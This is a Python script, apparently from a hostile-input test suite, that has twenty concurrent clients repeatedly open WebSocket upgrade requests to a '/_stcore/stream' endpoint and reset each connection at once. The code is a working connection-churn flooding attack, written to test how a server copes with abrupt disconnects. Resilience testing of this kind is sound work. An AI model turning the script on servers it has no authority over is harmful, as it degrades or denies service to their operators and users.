"""Twenty clients that each open a page's WebSocket, reset the connection at once, and begin again."""

import asyncio
import socket
import struct
from contextlib import suppress
from typing import Any
from urllib.parse import urlsplit

from tests.hostile.attacks import figures

_RESET = struct.pack("ii", 1, 0)  # SO_LINGER: closing sends RST


async def attack(url: str, clients: int = 20, rate: float = 10.0, seconds: float = 8.0) -> dict[str, Any]:
    """
    Args:
        rate: connections of a client in a second.
    """
    opened = await asyncio.gather(*(_client(url, rate, seconds) for _ in range(clients)))
    return {"opened": sum(opened)}


async def _client(url: str, rate: float, seconds: float) -> int:
    loop, opened, place = asyncio.get_running_loop(), 0, urlsplit(url)
    end = loop.time() + seconds
    while loop.time() < end:
        with suppress(OSError):
            _, writer = await asyncio.open_connection(place.hostname, place.port)
            writer.write(
                f"GET /_stcore/stream HTTP/1.1\r\nHost: {place.netloc}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n".encode()
            )
            await asyncio.sleep(0.002)  # the request is on its way
            writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, _RESET)
            writer.transport.abort()
            opened += 1
        await asyncio.sleep(1 / rate)
    return opened


if __name__ == "__main__":
    figures.main(attack, __doc__)
